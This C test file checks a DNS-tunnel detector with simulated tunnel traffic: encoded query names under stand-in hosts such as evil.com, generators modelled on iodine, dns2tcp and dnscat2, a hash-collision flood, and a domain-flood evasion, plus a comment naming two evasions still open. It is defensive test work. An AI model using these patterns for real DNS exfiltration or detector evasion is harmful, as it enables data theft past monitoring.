static void test_slow(const struct rules *rules)
{
	struct run r;
	uint64_t t0 = 1700000000000000ull;

	CHECK_EQ(run_open(&r, rules), 0);
	stream_slow(&r, t0, "slow-leak.example", 60);
	double min = r.cap.n ? (double)(r.cap.first_ts - t0) / 60e6 : -1;
	printf("  %-34s first alert at query %2d (minute %.0f of packet time), severity %d, score %d\n",
	       "slow exfil (1/min, 30-char base32)", r.cap.first_q, min, r.cap.sev_first, r.cap.score_max);
	printf("  %-34s subject %s; \"%s\"\n", "", r.cap.subject, r.cap.detail);
	CHECK(r.cap.n > 0);
	CHECK(r.cap.first_ts - t0 <= 60ull * 60000000);
	CHECK_EQ(r.cap.sev_first, 3);
	CHECK_STR(r.cap.subject, "slow-leak.example");
	CHECK_EQ(r.cap.n, 60 - r.cap.first_q + 1); /* then every new name counts */
	run_close(&r);
}

static void test_benign(const struct rules *rules, const char *label)
{
	struct run r;

	CHECK_EQ(run_open(&r, rules), 0);
	int distinct = stream_benign(&r, 1700000000000000ull, 2400);
	printf("  benign (%s): %d queries, %d distinct names, %d alerts%s%s\n", label, r.q, distinct,
	       r.cap.n, r.cap.n ? " first on " : "", r.cap.n ? r.cap.subject : "");
	if (r.cap.n)
		printf("    evidence %s; \"%s\"\n", r.cap.evidence, r.cap.detail);
	CHECK(r.q >= 2000);
	CHECK(distinct >= 300);
	CHECK_EQ(r.cap.n, 0);
	run_close(&r);
}

/* Tunnels interleaved with benign traffic: only the tunnel domains alert. */
static void test_mixed(const struct rules *rules)
{
	struct run r;
	uint64_t t0 = 1700000000000000ull;

	CHECK_EQ(run_open(&r, rules), 0);
	stream_benign(&r, t0, 1000);
	struct cap before = r.cap;
	CHECK_EQ(before.n, 0);
	stream_iodine(&r, t0 + 60000000ull * 30, "t.example-tunnel.test", 20);
	CHECK(r.cap.n > 0);
	CHECK_STR(r.cap.subject, "example-tunnel.test");
	int after_tunnel = r.cap.n;
	stream_benign(&r, t0 + 60000000ull * 31, 1000);
	CHECK_EQ(r.cap.n, after_tunnel);
	CHECK_EQ(r.cap.other_subject, 0);
	run_close(&r);
}

/*
 * The prefetch hook changes nothing on_obs decides: each stream gives the
 * same alerts with it called as the core calls it, with it called on
 * another observation first, and without it.
 */
static void test_prefetch(const struct rules *rules)
{
	int (*const gens[])(struct run *) = {g_iodine, g_dns2tcp, g_dnscat2, g_dig52, g_dig32};
	struct cap want[sizeof(gens) / sizeof(gens[0])];

	const uint64_t seed = rng;

	CHECK(detect_dns_tunnel_module.prefetch != NULL);
	for (int mode = PF_NONE; mode <= PF_DECOY; mode++) {
		pf_mode = mode;
		for (size_t g = 0; g < sizeof(gens) / sizeof(gens[0]); g++) {
			struct run r;
			rng = seed + g * 0x9e3779b97f4a7c16ull; /* the same names in every mode */
			CHECK_EQ(run_open(&r, rules), 0);
			stream_benign(&r, 1700000000000000ull - 60000000ull * 40, 300);
			gens[g](&r);
			if (mode == PF_NONE) {
				want[g] = r.cap;
				CHECK(r.cap.n > 0);
			} else {
				CHECK_EQ(r.cap.n, want[g].n);
				CHECK_EQ(r.cap.first_q, want[g].first_q);
				CHECK_EQ(r.cap.score_max, want[g].score_max);
				CHECK_STR(r.cap.subject, want[g].subject);
				CHECK_STR(r.cap.detail, want[g].detail);
				CHECK_STR(r.cap.evidence, want[g].evidence);
			}
			run_close(&r);
		}
	}
	pf_mode = PF_NONE;
}

/* name_memo (module.h): the hash a prefetch put is taken back by the same
 * observation only, once; any other gets its own name's hash. */
static void test_name_memo(void)
{
	struct name_memo m = {0};
	struct obs a = {.name = "a.example.com", .name_len = 13};
	struct obs b = {.name = "b.example.com", .name_len = 13};
	const uint64_t ha = text_fnv64(a.name, a.name_len), hb = text_fnv64(b.name, b.name_len);

	CHECK(ha != hb);
	CHECK(name_memo_put(&m, &a) == ha);
	CHECK(name_memo_take(&m, &a) == ha);
	CHECK(m.o == NULL);
	CHECK(name_memo_take(&m, &a) == ha); /* computed */
	name_memo_put(&m, &a);
	CHECK(name_memo_take(&m, &b) == hb);
	name_memo_put(&m, &a);
	a.name = b.name; /* the same observation, another name */
	CHECK(name_memo_take(&m, &a) == hb);
}

/* Trusted zones never alert, at dot boundaries; an empty list trusts nothing. */
static void test_trusted(struct rules *rules)
{
	struct run r;

	CHECK_EQ(run_open(&r, rules), 0);
	stream_iodine(&r, 1700000000000000ull, "x.cloudfront.net", 40);
	stream_dig_b32(&r, 1700000000000000ull, "bucket.s3.amazonaws.com", 40, 52, 300);
	CHECK_EQ(r.cap.n, 0);
	stream_iodine(&r, 1700000000000000ull, "t.xcloudfront.net", 40);
	CHECK(r.cap.n > 0);
	CHECK_STR(r.cap.subject, "xcloudfront.net");
	run_close(&r);

	size_t saved = rules->trusted_domains.n;
	rules->trusted_domains.n = 0;
	CHECK_EQ(run_open(&r, rules), 0);
	stream_dig_b32(&r, 1700000000000000ull, "bucket.s3.amazonaws.com", 40, 52, 300);
	CHECK(r.cap.n > 0);
	CHECK_STR(r.cap.subject, "bucket.s3.amazonaws.com"); /* cut at the private suffix */
	run_close(&r);
	rules->trusted_domains.n = saved;
}

/* Thresholds at their edges. */
static void test_thresholds(const struct rules *base)
{
	struct rules r2 = *base;
	struct run r;
	char name[200], lab[64];

	/* tunnel_min_queries: never before that many new names */
	for (unsigned mq = 4; mq <= 16; mq += 4) {
		r2.t = base->t;
		r2.t.tunnel_min_queries = mq;
		r2.t.tunnel_budget_hour = r2.t.tunnel_budget_day = 1u << 30;
		CHECK_EQ(run_open(&r, &r2), 0);
		stream_dig_b32(&r, 1700000000000000ull, "exfil.example.com", 30, 52, 300);
		CHECK_EQ(r.cap.first_q, (int)mq);
		run_close(&r);
	}

	/* tunnel_score: alert at exactly the score, not one above */
	memset(&r2, 0, sizeof(r2));
	r2 = *base;
	r2.t.tunnel_min_queries = 8;
	r2.t.tunnel_budget_hour = r2.t.tunnel_budget_day = 1u << 30;
	struct dns_tunnel_feat f;
	memset(&f, 0, sizeof(f));
	static char names[8][200];
	for (int i = 0; i < 8; i++) {
		rand_from(lab, 24, B32);
		dns_tunnel_feat_name(&f, lab, 24);
		f.queries++;
		snprintf(names[i], sizeof(names[i]), "%s.edge.example", lab);
	}
	int s = dns_tunnel_score(&f);
	printf("  score edge: 8 names of 24 base32 chars score %d\n", s);
	for (int d = 0; d <= 1; d++) {
		r2.t.tunnel_score = (unsigned)(s + d);
		CHECK_EQ(run_open(&r, &r2), 0);
		for (int i = 0; i < 8; i++)
			feed(&r, 1700000000000000ull + (uint64_t)i * 1000000, names[i], 1, 0);
		CHECK_EQ(r.cap.n, d ? 0 : 1);
		CHECK_EQ(r.cap.first_q, d ? 0 : 8);
		run_close(&r);
	}
	/* the score needs the new names: repeats of one name never judge */
	r2.t.tunnel_score = 1;
	CHECK_EQ(run_open(&r, &r2), 0);
	for (int i = 0; i < 50; i++)
		feed(&r, 1700000000000000ull + (uint64_t)i * 100000, names[0], 16, 500);
	CHECK_EQ(r.cap.n, 0);
	run_close(&r);

	/* burst window: 8 names spread wider than tunnel_window_s are not a
	 * burst (severity high) but the hour window still judges them */
	r2.t.tunnel_score = base->t.tunnel_score;
	r2.t.tunnel_window_s = 5;
	CHECK_EQ(run_open(&r, &r2), 0);
	stream_dig_b32(&r, 1700000000000000ull, "exfil.example.com", 20, 52, 1000);
	CHECK(r.cap.first_q >= 8);
	CHECK_EQ(r.cap.sev_first, 3);
	run_close(&r);
	r2.t.tunnel_window_s = 60;

	/* hour budget: readable unique names (low score) over a small budget */
	r2.t = base->t;
	r2.t.tunnel_budget_hour = 600;
	r2.t.tunnel_budget_day = 1u << 30;
	CHECK_EQ(run_open(&r, &r2), 0);
	for (int i = 0; i < 60; i++) {
		snprintf(name, sizeof(name), "%s-%s-%s-%s.notes.example", words[rnd() % N_WORDS],
			 words[rnd() % N_WORDS], words[rnd() % N_WORDS], words[rnd() % N_WORDS]);
		feed(&r, 1700000000000000ull + (uint64_t)i * 30000000, name, 1, 0);
	}
	printf("  hour budget 600 B: first alert at query %d, severity %d, \"%s\"\n", r.cap.first_q,
	       r.cap.sev_first, r.cap.detail);
	CHECK(r.cap.n > 0);
	CHECK_EQ(r.cap.sev_first, 3);
	CHECK(r.cap.first_q > 8);
	run_close(&r);

	/* the same stream within the default budget raises nothing */
	r2.t = base->t;
	CHECK_EQ(run_open(&r, &r2), 0);
	for (int i = 0; i < 60; i++) {
		snprintf(name, sizeof(name), "%s-%s-%s-%s.notes.example", words[rnd() % N_WORDS],
			 words[rnd() % N_WORDS], words[rnd() % N_WORDS], words[rnd() % N_WORDS]);
		feed(&r, 1700000000000000ull + (uint64_t)i * 30000000, name, 1, 0);
	}
	CHECK_EQ(r.cap.n, 0);
	run_close(&r);

	/* day budget: the same content spread over hours trips the day budget only */
	r2.t = base->t;
	r2.t.tunnel_budget_hour = 1u << 30;
	r2.t.tunnel_budget_day = 1500;
	CHECK_EQ(run_open(&r, &r2), 0);
	for (int i = 0; i < 120; i++) {
		snprintf(name, sizeof(name), "%s-%s-%s-%s.notes.example", words[rnd() % N_WORDS],
			 words[rnd() % N_WORDS], words[rnd() % N_WORDS], words[rnd() % N_WORDS]);
		feed(&r, 1700000000000000ull + (uint64_t)i * 600000000, name, 1, 0);
	}
	CHECK(r.cap.n > 0);
	CHECK_EQ(r.cap.sev_first, 3);
	run_close(&r);
}

/* Names that are not judged, escapes, and the bounded table. */
static void test_edges(const struct rules *rules)
{
	struct run r;
	char name[300], lab[64];

	CHECK_EQ(run_open(&r, rules), 0);
	/* no registered domain, the root, single labels, public suffixes */
	for (int i = 0; i < 30; i++) {
		rand_from(lab, 50, B32);
		feed(&r, 1700000000000000ull + (uint64_t)i * 1000, lab, 16, 0);
		snprintf(name, sizeof(name), "%s.co.uk", lab); /* each its own domain */
		feed(&r, 1700000000000000ull + (uint64_t)i * 1000, name, 16, 0);
		feed(&r, 1700000000000000ull + (uint64_t)i * 1000, "co.uk", 16, 0);
		feed(&r, 1700000000000000ull + (uint64_t)i * 1000, ".", 2, 0);
		feed(&r, 1700000000000000ull + (uint64_t)i * 1000, "", 1, 0);
	}
	/* reverse look-ups and mDNS never judged, however they look */
	for (int i = 0; i < 30; i++) {
		rand_from(lab, 50, HEX);
		snprintf(name, sizeof(name), "%u.%u.%u.10.in-addr.arpa", rnd() % 256, rnd() % 256,
			 rnd() % 256);
		feed(&r, 1700000000000000ull + (uint64_t)i * 1000, name, 12, 0);
		size_t o = 0;
		for (int k = 0; k < 32; k++)
			o += (size_t)snprintf(name + o, sizeof(name) - o, "%c.", lab[k]);
		snprintf(name + o, sizeof(name) - o, "ip6.arpa");
		feed(&r, 1700000000000000ull + (uint64_t)i * 1000, name, 12, 0);
		snprintf(name, sizeof(name), "Living Room TV %s._googlecast._tcp.local", lab);
		feed(&r, 1700000000000000ull + (uint64_t)i * 1000, name, 16, 0);
	}
	CHECK_EQ(r.cap.n, 0);
	/* ... but data under a reverse zone is judged: reverse zones are
	 * delegated to whoever holds the addresses, who answers any name */
	{
		struct run rr;
		CHECK_EQ(run_open(&rr, rules), 0);
		for (int i = 0; i < 30; i++) {
			rand_from(lab, 50, HEX);
			snprintf(name, sizeof(name), "%s.1.in-addr.arpa", lab);
			feed(&rr, 1700000000000000ull + (uint64_t)i * 1000, name, 16, 0);
		}
		CHECK(rr.cap.n > 0);
		CHECK_STR(rr.cap.subject, "1.in-addr.arpa");
		run_close(&rr);
	}
	/* escaped bytes, "\." and a trailing dot */
	for (int i = 0; i < 20; i++) {
		snprintf(name, sizeof(name), "\\x00\\xff\\.\\\\%s\\x01\\x02.esc-tunnel.example.",
			 (rand_from(lab, 20, ALNUM), lab));
		feed(&r, 1700000000000000ull + (uint64_t)i * 100000, name, 10, 0);
	}
	CHECK(r.cap.n > 0);
	CHECK_STR(r.cap.subject, "esc-tunnel.example");
	/* answers for unknown domains do not create state or alerts */
	struct pkt p;
	memset(&p, 0, sizeof(p));
	p.ts_us = 1700000001000000ull;
	struct obs o = {.kind = OBS_DNS_ANSWER, .pkt = &p, .name = "zzz.unknown.example",
			.name_len = 19, .type = 16, .size = 4000};
	CHECK_EQ(r.m->on_obs(r.st, &o, &r.cap.e), 0);
	/* a 255-byte name of escapes */
	size_t k = 0;
	for (int i = 0; i < 60; i++)
		k += (size_t)snprintf(name + k, sizeof(name) - k, "\\x%02x", 0x80 + i);
	snprintf(name + k, sizeof(name) - k, ".e.example");
	feed(&r, 1700000002000000ull, name, 1, 0);
	run_close(&r);

	/* far more domains than the table holds: bounded, still detects */
	CHECK_EQ(run_open(&r, rules), 0);
	uint64_t t = 1700000000000000ull;
	for (int i = 0; i < 20000; i++) {
		rand_from(lab, 12, ALNUM);
		snprintf(name, sizeof(name), "www.%s.com", lab);
		feed(&r, t + (uint64_t)i * 1000, name, 1, 0);
	}
	CHECK_EQ(r.cap.n, 0);
	stream_iodine(&r, t + 30000000, "t.example-tunnel.test", 20);
	CHECK(r.cap.n > 0);
	/* on_tick forgets idle domains; detection restarts cleanly afterwards */
	r.m->on_tick(r.st, t + 3ull * 86400 * 1000000, &r.cap.e);
	r.m->on_tick(r.st, t + 3ull * 86400 * 1000000, &r.cap.e);
	int before = r.cap.n;
	stream_iodine(&r, t + 3ull * 86400 * 1000000, "t.example-tunnel.test", 20);
	CHECK(r.cap.n > before);
	run_close(&r);

	/* init without rules uses the built-in defaults; fini takes NULL */
	struct module_env env = {0};
	void *st = NULL;
	CHECK_EQ(detect_dns_tunnel_module.init(&env, &st), 0);
	detect_dns_tunnel_module.fini(st);
	detect_dns_tunnel_module.fini(NULL);
	CHECK_STR(detect_dns_tunnel_module.name, "detect_dns_tunnel");
	CHECK_EQ(detect_dns_tunnel_module.obs_mask, (1u << OBS_DNS_QUERY) | (1u << OBS_DNS_ANSWER));
}

static int ends_with(const char *s, size_t n, const char *t)
{
	size_t tn = strlen(t);
	return n >= tn && memcmp(s + n - tn, t, tn) == 0 && (n == tn || s[n - tn - 1] == '.');
}

/*
 * Whether cut c (sub length sl) of name[0..n) is what the detector's rules
 * give, from libpsl and the rules' definitions: -1 under .arpa/.local, for a
 * single label or when libpsl finds no registered domain; the data rule
 * (keyed by the first label) only under a top-level label the list does not
 * know; else libpsl's registered domain.
 */
/* A reverse look-up's name, written apart from the detector's reverse_name:
 * octets (0-255, at most 4) under in-addr.arpa, nibbles (at most 32) under
 * ip6.arpa, or those zones and arpa themselves. */
static int is_reverse(const char *name)
{
	char buf[300];
	char *labels[40], *save = NULL;
	int nl = 0;

	snprintf(buf, sizeof(buf), "%s", name);
	for (char *t = strtok_r(buf, ".", &save); t && nl < 40; t = strtok_r(NULL, ".", &save))
		labels[nl++] = t;
	if (strstr(name, "..") || name[0] == '.' || nl == 0 || strcmp(labels[nl - 1], "arpa"))
		return 0;
	if (nl == 1)
		return 1;
	int v6 = !strcmp(labels[nl - 2], "ip6");
	if (!v6 && strcmp(labels[nl - 2], "in-addr"))
		return 0;
	if (nl - 2 > (v6 ? 32 : 4))
		return 0;
	for (int i = 0; i < nl - 2; i++) {
		size_t l = strlen(labels[i]);
		if (v6 ? l != 1 || !strchr("0123456789abcdef", labels[i][0])
		       : l > 3 || strspn(labels[i], "0123456789") != l || atoi(labels[i]) > 255)
			return 0;
	}
	return 1;
}

static int cut_as_reference(const psl_ctx_t *psl, const char *name, size_t n, long c, size_t sl)
{
	const char *dot = memchr(name, '.', n), *last = strrchr(name, '.');

	if (ends_with(name, n, "local") || !dot || (ends_with(name, n, "arpa") && is_reverse(name)))
		return c == -1;
	if (c <= -2)
		return c == -2 - (long)(dot - name) && sl == n - (size_t)(dot - name) - 1 &&
		       !psl_is_public_suffix2(psl, last + 1, PSL_TYPE_ANY | PSL_TYPE_NO_STAR_RULE);
	const char *rd = psl_registrable_domain(psl, name);
	if (c == -1)
		return rd == NULL;
	return rd == name + c && sl == (c ? (size_t)c - 1 : 0);
}

/* The cut cache against libpsl itself: the same context the detector loads. */
static void test_cut_cache(struct rules *rules)
{
	static const char *const zones[] = {
		"com", "co.uk", "uk", "example.org", "github.io", "blogspot.com",
		"s3.dualstack.ap-northeast-1.amazonaws.com", "dualstack.ap-northeast-1.amazonaws.com",
		"ap-northeast-1.amazonaws.com", "s3.amazonaws.com", "amazonaws.com",
		"compute.amazonaws.com", "eu-west-1.compute.amazonaws.com", "kawasaki.jp",
		"city.kawasaki.jp", "www.ck", "ck", "forgot.his.name", "his.name", "name",
		"example", "foo.bar", "nosuchtld", "deadbeefcafe0123", "in-addr.arpa", "local",
		"cluster.local", "appspot.com", "herokuapp.com", "xn--p1ai", "a.b.c.d.e.f",
		"mzxw6ytboi2dsnzrgq3tmnrvgu.unknowntld", "c2.deadbeef", "k8s.x1", "cloudfront.net",
		"s3.amazonaws.com.cn", "blogspot.co.uk", "pvt.k12.ma.us", "in-addr.arpa.example",
	};
	enum { NZ = sizeof(zones) / sizeof(zones[0]), NN = 40000 };
	psl_ctx_t *own = psl_latest(NULL);
	const psl_ctx_t *psl = own ? own : psl_builtin();
	size_t saved = rules->trusted_domains.n;
	struct module_env env = {.rules = rules};
	void *a = NULL, *b = NULL;
	char(*names)[300] = calloc(NN, sizeof(*names));
	long *cut = calloc(NN, sizeof(*cut));
	size_t *sub = calloc(NN, sizeof(*sub));
	int bad_psl = 0, bad_repeat = 0, bad_order = 0, checked = 0, bad_ref = 0, bad_trust = 0;

	CHECK(psl != NULL && names && cut && sub);
	rules->trusted_domains.n = 0; /* judge every name */
	CHECK_EQ(detect_dns_tunnel_module.init(&env, &a), 0);
	CHECK_EQ(detect_dns_tunnel_module.init(&env, &b), 0);
	if (!psl || !names || !cut || !sub || !a || !b)
		goto out;
	for (int i = 0; i < NN; i++) {
		char *n = names[i];
		size_t o = 0;
		int labels = (int)(rnd() % 4); /* 0..3 labels before the zone */
		if (i % 97 == 0)
			labels = 6; /* long names (past the cache's name bound) */
		for (int l = 0; l < labels; l++) {
			int len = 1 + (int)(rnd() % (i % 97 == 0 ? 40 : 12));
			for (int k = 0; k < len; k++)
				n[o++] = "abcdefghijklmnopqrstuvwxyz0123456789-"[rnd() % (k ? 37 : 36)];
			n[o++] = '.';
		}
		/* a few names repeat an earlier one's first labels: "www", "a" */
		if (i % 5 == 0)
			o = (size_t)sprintf(n, "%s.", i % 10 ? "www" : "a");
		o += (size_t)sprintf(n + o, "%s", zones[rnd() % NZ]);
		n[o] = '\0';
	}
	for (int pass = 0; pass < 3; pass++) {
		for (int i = 0; i < NN; i++) {
			size_t sl = 0, n = strlen(names[i]);
			long c = dns_tunnel_cut(a, names[i], n, &sl);
			if (pass == 0) {
				cut[i] = c;
				sub[i] = sl;
			} else if (c != cut[i] || sl != sub[i]) {
				bad_repeat++;
			}
		}
	}
	for (int i = NN - 1; i >= 0; i--) {
		size_t sl = 0, n = strlen(names[i]);
		long c = dns_tunnel_cut(b, names[i], n, &sl);
		bad_order += c != cut[i] || sl != sub[i];
		bad_ref += !cut_as_reference(psl, names[i], n, c, sl);
		/* a cut at a registered domain is exactly libpsl's */
		if (c >= 0) {
			const char *rd = psl_registrable_domain(psl, names[i]);
			checked++;
			if (!rd || rd != names[i] + c || sl != (c ? (size_t)c - 1 : 0))
				bad_psl++;
		}
	}
	CHECK_EQ(bad_repeat, 0);
	CHECK_EQ(bad_order, 0);
	CHECK_EQ(bad_psl, 0);
	CHECK_EQ(bad_ref, 0);
	CHECK(checked > NN / 2);
	/* the trusted-zone outcome is cached too: a trusted name stays unjudged */
	rules->trusted_domains.n = saved;
	detect_dns_tunnel_module.fini(b);
	b = NULL;
	CHECK_EQ(detect_dns_tunnel_module.init(&env, &b), 0);
	if (b) {
		size_t sl;
		for (int k = 0; k < 2; k++) {
			CHECK_EQ(dns_tunnel_cut(b, "d1234abcd.cloudfront.net", 24, &sl), -1);
			CHECK_EQ(dns_tunnel_cut(b, "d1234abcd.xcloudfront.net", 25, &sl), 10);
		}
	}
	/* With the trusted zones: a trusted name is uncut, any other one cut as
	 * libpsl cuts it, whatever order the names (and so their parents, whose
	 * entries the cache fills without the zone match) come in. */
	detect_dns_tunnel_module.fini(a);
	a = NULL;
	CHECK_EQ(detect_dns_tunnel_module.init(&env, &a), 0);
	if (a && b) {
		for (int pass = 0; pass < 2; pass++) {
			for (int k = 0; k < NN; k++) {
				int i = pass ? NN - 1 - k : k;
				size_t sl = 0, n = strlen(names[i]);
				long c = dns_tunnel_cut(pass ? b : a, names[i], n, &sl);
				if (rules_domain_match(&rules->trusted_domains, names[i], n))
					bad_trust += c != -1;
				else
					bad_trust += c != cut[i] || sl != sub[i];
			}
		}
	}
	CHECK_EQ(bad_trust, 0);
	printf("cut cache: %d names, %d of them cut by libpsl\n", NN, checked);
out:
	rules->trusted_domains.n = saved;
	detect_dns_tunnel_module.fini(a);
	detect_dns_tunnel_module.fini(b);
	if (own)
		psl_free(own);
	free(names);
	free(cut);
	free(sub);
}

/* The domain table is chained by a hash of the domain, which the querier
 * chooses: 4096 domains made to fall in one bucket of 8192 under the hash it
 * used to have (text_fnv64) must spread under the keyed one (sensor/hash.h),
 * or every query would walk 4096 domains: such a capture replayed five times
 * slower (tests/bench/hashflood.sh). */
static void test_flood(const struct rules *rules)
{
	static char dom[4096][COLLIDE_LEN];
	char name[64];
	struct run r;

	CHECK_EQ(collide_fnv(TEXT_FNV64_BASIS, TEXT_FNV64_PRIME, 64, 13, dom, 4096), 4096);
	CHECK_EQ(run_open(&r, rules), 0);
	for (int i = 0; i < 4096; i++) {
		memcpy(name, "www.", 4);
		memcpy(name + 4, dom[i], 10);
		memcpy(name + 14, ".com", 5);
		feed(&r, 1700000000000000ull + (uint64_t)i * 1000, name, 1, 0);
	}
	unsigned most = dns_tunnel_chain_max(r.st);
	printf("4096 domains colliding under FNV-1a: the longest chain holds %u domains\n", most);
	CHECK(most >= 1 && most <= 12);
	CHECK_EQ(r.cap.n, 0);
	run_close(&r);
}

/*
 * A way around the domain table that an audit found: a flood of throwaway
 * domains between the encoded queries that pushes the tunnel's domain out
 * of the table, its windows and budget with it. It must still be found.
 * (Two others are left, detection.md: plain names asked first to fill the
 * day's Bloom filter, and data in the case of a name asked again.)
 */
static void test_evasions(const struct rules *rules)
{
	char name[300], lab[80];
	struct run r;
	uint64_t t = 1700000000000000ull;

	/* 12 rounds of 7 encoded queries, each followed by 4,100 new domains */
	CHECK_EQ(run_open(&r, rules), 0);
	for (int round = 0, dn = 0; round < 12; round++) {
		for (int i = 0; i < 7; i++, t += 100000) {
			rand_from(lab, 40, B32);
			snprintf(name, sizeof(name), "%.40s.evil.com", lab);
			feed(&r, t, name, 16, 0);
		}
		for (int i = 0; i < 4100; i++, t += 1000) {
			snprintf(name, sizeof(name), "www.f%d.com", dn++);
			feed(&r, t, name, 1, 0);
		}
	}
	CHECK(r.cap.n > 0 && strcmp(r.cap.subject, "evil.com") == 0);
	run_close(&r);
}

int main(void)
{
	struct rules *rules = rules_default();

	CHECK(rules != NULL);
	if (!rules)
		return check_done();
	if (getenv("DT_SEED")) /* other random streams: DT_SEED=n */
		rng = strtoull(getenv("DT_SEED"), NULL, 0) * 0x9e3779b97f4a7c15ull | 1;
	test_label_class();
	test_score();

	printf("detection delays (default rules: min_queries %u, window %us, score %u, budget %u/h %u/day):\n",
	       rules->t.tunnel_min_queries, rules->t.tunnel_window_s, rules->t.tunnel_score,
	       rules->t.tunnel_budget_hour, rules->t.tunnel_budget_day);
	test_tunnels(rules);
	test_slow(rules);
	test_benign(rules, "shipped trusted zones");

	size_t saved = rules->trusted_domains.n;
	rules->trusted_domains.n = 0;
	printf("with an empty trusted list:\n");
	test_tunnels(rules);
	test_benign(rules, "no trusted zones");
	test_mixed(rules);
	rules->trusted_domains.n = saved;

	test_mixed(rules);
	test_trusted(rules);
	test_thresholds(rules);
	test_edges(rules);
	test_cut_cache(rules);
	test_prefetch(rules);
	test_name_memo();
	test_flood(rules);
	test_evasions(rules);
	if (getenv("DT_SWEEP")) {
		rules->trusted_domains.n = getenv("DT_TRUST") ? saved : 0;
		for (unsigned thr = 20; thr <= 70; thr += 5) {
			struct run r;
			rules->t.tunnel_score = thr;
			run_open(&r, rules);
			stream_benign(&r, 1700000000000000ull, 2400);
			printf("thr %u: %d alerts, first %s (%s) sev %d\n", thr, r.cap.n, r.cap.subject, r.cap.evidence, r.cap.sev_first);
			run_close(&r);
		}
		rules->trusted_domains.n = saved;
	}
	rules_free(rules);
	return check_done();
}
